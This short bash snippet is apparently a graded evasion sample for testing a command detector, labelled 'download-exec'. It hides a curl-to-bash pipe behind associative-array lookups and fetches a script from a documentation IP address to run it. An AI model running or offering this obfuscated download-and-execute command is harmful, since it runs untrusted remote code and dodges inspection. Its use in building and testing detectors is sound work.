# evasion: the downloader and the interpreter are values of an associative array, looked up by role
# grade: hard; does: download-exec
declare -A tool=(
	[fetch]=curl
	[run]=bash
	[opts]=-fsSL
)
origin=http://203.0.113.31/bootstrap
"${tool[fetch]}" "${tool[opts]}" "$origin" | "${tool[run]}"
